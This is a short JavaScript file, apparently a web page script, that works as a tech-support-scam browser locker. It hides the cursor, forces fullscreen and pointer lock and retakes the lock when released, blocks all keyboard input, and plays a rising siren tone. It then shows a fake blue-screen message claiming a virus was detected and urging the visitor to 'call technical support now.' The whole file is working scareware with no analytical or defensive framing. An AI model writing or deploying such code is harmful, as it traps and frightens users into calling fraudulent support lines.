document.documentElement.style.cursor = "none";
document.addEventListener("mousedown", function () {
  document.documentElement.requestFullscreen();
  document.body.requestPointerLock();
  const siren = new Tone.Oscillator(440, "sawtooth").toDestination().start();
  siren.frequency.rampTo(880, 1);
});
document.addEventListener("pointerlockchange", function () {
  if (!document.pointerLockElement) document.body.requestPointerLock();
});
document.addEventListener("keydown", function (e) { e.preventDefault(); e.stopImmediatePropagation(); }, true);
const note = document.createElement("div");
note.className = "bsod";
note.textContent = "SECURITY FAILURE: VIRUS DETECTED. Your PC was stopped to protect your data. Call technical support now.";
document.body.append(note);
